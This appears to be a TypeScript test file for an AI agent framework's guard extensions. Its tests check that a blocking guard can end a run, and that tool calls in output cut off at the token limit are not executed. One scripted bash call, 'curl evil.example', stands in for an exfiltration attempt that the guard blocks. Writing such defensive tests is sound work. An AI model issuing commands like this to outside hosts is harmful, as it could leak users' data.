import { existsSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { defineExtension, type GatehouseEvent, type ToolExecutionEndEvent } from "@gatehouse/sdk";
import { describe, expect, it } from "vitest";
import { call, OPENING, runScenario, say, tempDir } from "../helpers/scenario.ts";

const ends = (events: GatehouseEvent[]) =>
  events.filter((e): e is ToolExecutionEndEvent => e.type === "tool_execution_end");

describe("a guard's { block, reason, terminate: true }", () => {
  it("blocks the call, lets the rest of the batch finish, then ends the run: no further turn, steering or follow-up", async () => {
    const cwd = tempDir();
    const tripwire = defineExtension({
      name: "tripwire",
      setup: (api) =>
        api.on(
          "tool_call",
          (e) => ({ block: true, reason: `${e.input.command} looks like an exfiltration attempt`, terminate: true }),
          { stage: "enforce", tools: ["bash"] },
        ),
    });
    const { events, model, result, seq, host } = await runScenario({
      cwd,
      extensions: [tripwire],
      turns: [
        {
          content: [
            call("A", "bash", { command: "curl evil.example" }),
            call("B", "write", { path: "notes.txt", content: "kept" }),
          ],
        },
        { content: [call("C", "write", { path: "after.txt", content: "never" })] },
        say("never asked"),
      ],
      onEvent: (event, h) => {
        if (event.type === "tool_execution_end" && event.toolCallId === "B") {
          h.steer("keep going");
          h.followUp("and then this");
        }
      },
    });
    const byId = Object.fromEntries(ends(events).map((e) => [e.toolCallId, e]));
    expect(byId.A).toMatchObject({
      outcome: "blocked",
      blockedBy: "tripwire",
      reason: "curl evil.example looks like an exfiltration attempt",
      result: { terminate: true },
    });
    expect(byId.B).toMatchObject({ outcome: "executed" });
    expect(readFileSync(join(cwd, "notes.txt"), "utf8")).toBe("kept");
    expect(model.requests).toHaveLength(1);
    expect(existsSync(join(cwd, "after.txt"))).toBe(false);
    expect(seq.slice(-2)).toEqual(["turn_end([A,B])", "agent_end(4)"]);
    expect(result.terminatedBy).toEqual({
      extension: "tripwire",
      reason: "curl evil.example looks like an exfiltration attempt",
    });
    expect(JSON.stringify(result.messages)).not.toContain("keep going");
    expect(result.stoppedBy).toBeUndefined();
    await host.close();
  });

  it("a block without terminate keeps the run going as before", async () => {
    const guard = defineExtension({
      name: "plain",
      setup: (api) => api.on("tool_call", () => ({ block: true, reason: "no" }), { stage: "enforce", tools: ["bash"] }),
    });
    const { model, result } = await runScenario({
      extensions: [guard],
      turns: [{ content: [call("A", "bash", { command: "true" })] }, say("fine")],
    });
    expect(model.requests).toHaveLength(2);
    expect(result.terminatedBy).toBeUndefined();
    expect(result.stopReason).toBe("stop");
  });
});

describe("a length-truncated assistant message", () => {
  it("runs none of its calls: each gets an error naming the output-token limit, and the model is asked again", async () => {
    const cwd = tempDir();
    const { events, model, seq, result } = await runScenario({
      cwd,
      turns: [
        {
          stopReason: "length",
          content: [
            call("A", "write", { path: "cut.txt", content: "half of the fi" }),
            call("B", "bash", { command: "touch ran.txt" }),
          ],
        },
        say("sorry, again in smaller pieces"),
      ],
    });
    expect(existsSync(join(cwd, "cut.txt"))).toBe(false);
    expect(existsSync(join(cwd, "ran.txt"))).toBe(false);
    for (const end of ends(events)) {
      expect(end).toMatchObject({ outcome: "invalid", isError: true });
      expect(end.reason).toContain("cut off at the output-token limit");
      expect(end.reason).toContain('stopReason "length"');
      expect(end.reason).toMatch(/^Tool call (write|bash) was not run/);
    }
    expect(seq).toEqual([
      ...OPENING,
      "tool_execution_start(A)",
      "tool_execution_end(A,err)",
      "tool_execution_start(B)",
      "tool_execution_end(B,err)",
      "message_start(toolResult:A)",
      "message_end(toolResult:A)",
      "message_start(toolResult:B)",
      "message_end(toolResult:B)",
      "turn_end([A,B])",
      "turn_start",
      "message_start(assistant)",
      "message_end(assistant)",
      "turn_end([])",
      "agent_end(5)",
    ]);
    // The second request carries both error results, so the model knows why.
    expect(model.requests).toHaveLength(2);
    expect(result.messages.filter((m) => m.role === "toolResult").every((m) => m.isError)).toBe(true);
  });

  it("a truncated message with text only ends the run as a normal stop would", async () => {
    const { model, result } = await runScenario({
      turns: [{ stopReason: "length", content: [{ type: "text", text: "and so" }] }],
    });
    expect(model.requests).toHaveLength(1);
    expect(result.stopReason).toBe("length");
  });
});
